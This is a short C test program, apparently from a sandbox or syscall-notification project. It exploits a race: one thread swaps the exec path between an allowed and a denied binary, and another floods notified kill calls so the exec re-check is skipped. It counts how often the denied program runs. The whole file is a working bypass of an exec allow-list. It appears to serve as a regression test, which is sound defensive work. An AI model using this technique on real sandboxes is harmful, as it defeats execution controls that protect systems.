// race_exec (tests/progs/race_exec.c) plus a third thread making a notified call
// (kill(getpid(), 0)) all the time: the exec re-check at the new image's first
// notified call is then skipped. Each run of the denied program prints PWNED.
//   race_exec_hide ALLOWED DENIED TRIES     (NOSPAM=1: without the third thread)
#define _GNU_SOURCE
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[512], allowed[512], denied[512];
static atomic_int started, started2;

static void *flip(void *u) { (void)u; atomic_store(&started, 1); for (;;) { strcpy(path, denied); strcpy(path, allowed); } return NULL; }
static void *spam(void *u) { (void)u; atomic_store(&started2, 1); pid_t me = getpid(); for (;;) syscall(SYS_kill, me, 0); return NULL; }

int main(int argc, char **argv)
{
	if (argc < 4) return 2;
	strcpy(allowed, argv[1]); strcpy(denied, argv[2]);
	int tries = atoi(argv[3]), ran = 0;
	for (int i = 0; i < tries; i++) {
		fflush(stdout);
		pid_t pid = fork();
		if (pid == 0) {
			pthread_t t, u;
			strcpy(path, allowed);
			pthread_create(&t, NULL, flip, NULL);
			if (!getenv("NOSPAM")) { pthread_create(&u, NULL, spam, NULL); while (!atomic_load(&started2)); }
			while (!atomic_load(&started));
			char *args[] = { path, NULL };
			execv(path, args);
			_exit(127);
		}
		int status;
		waitpid(pid, &status, 0);
		ran += WIFEXITED(status) && WEXITSTATUS(status) == 0;
	}
	printf("tries %d ran %d\n", tries, ran);
	return 0;
}
